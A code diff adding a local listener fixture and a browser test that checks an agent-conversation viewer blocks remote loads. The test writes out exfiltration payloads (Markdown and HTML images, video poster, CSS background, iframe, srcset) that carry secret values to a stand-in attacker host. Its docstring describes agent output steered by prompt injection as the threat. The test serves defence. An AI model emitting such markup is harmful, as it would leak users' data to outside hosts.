@@ -10,7 +10,9 @@ own, whose archive follows quickly). Screenshots go to ``tests/artifacts/ui/``.
 from __future__ import annotations
 
 import signal
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -95,6 +97,70 @@ def test_a_conversation_opens_as_a_document(lab: Lab, page: Any) -> None:
     tab = page.locator(".lm-TabBar-tab", has_text="Conversation:")
     assert tab.count() == 1
     shot(page, "conversation-document")
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """A web server on 127.0.0.1 that records the path of every request it gets: what
+    an attacker's host would see (its address, the list of paths)."""
+    got: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            got.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"127.0.0.1:{server.server_address[1]}", got
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_conversation_loads_nothing_from_elsewhere(
+    lab: Lab, page: Any, listener: tuple[str, list[str]]
+) -> None:
+    """What an agent wrote (steered by a prompt injection, say) cannot make the view
+    send what it read to another host: a Markdown image, an HTML image, a video poster,
+    a CSS background and an iframe with a secret in their URLs are shown as links
+    naming the host, and no request reaches it; a click on one is still possible."""
+    host, got = listener
+    leaks = [
+        f"![the chart](http://{host}/md.png?d=SECRET-1)",
+        f'<img src="http://{host}/img.png?d=SECRET-2" alt="x">',
+        f'<video poster="http://{host}/poster.png?d=SECRET-3"></video>',
+        f'<span style="background:url(http://{host}/css.png?d=SECRET-4)">bg</span>',
+        f'<iframe src="http://{host}/frame?d=SECRET-5"></iframe>',
+        f'<picture><source srcset="http://{host}/set.png?d=SECRET-6"><img alt="y"></picture>',
+    ]
+    agent, _ = talked(lab, " ".join(leaks))
+    open_lab(page, lab, reset=True)
+    show_panel(page)
+    row(page, agent["id"]).locator("button[data-action='conversation']").click()
+    doc = page.locator(
+        f".jp-AgentsConversationDocument .jp-AgentsConversation[data-session-id='{agent['id']}']"
+    )
+    doc.locator("h1").wait_for()
+    doc.locator("blockquote").first.wait_for()  # the first turn is shown
+    page.wait_for_timeout(1500)  # what would load has had its chance
+    assert got == [], f"the view fetched {got}"
+    blocked = doc.locator("a.jp-AgentsBlocked")
+    assert doc.locator("img, video, iframe, source, picture").count() == 0
+    shown = blocked.all_inner_texts()
+    assert f"image: the chart ({host})" in shown, shown
+    assert sum(host in text for text in shown) >= 4, shown
+    assert blocked.first.get_attribute("href") == f"http://{host}/md.png?d=SECRET-1"
+    assert "background" not in (
+        doc.locator("span", has_text="bg").first.get_attribute("style") or ""
+    )
+    shot(page, "conversation-remote-blocked")
 
 
 def test_a_resume_that_cannot_work_says_why_and_offers_a_fresh_session(lab: Lab, page: Any) -> None:
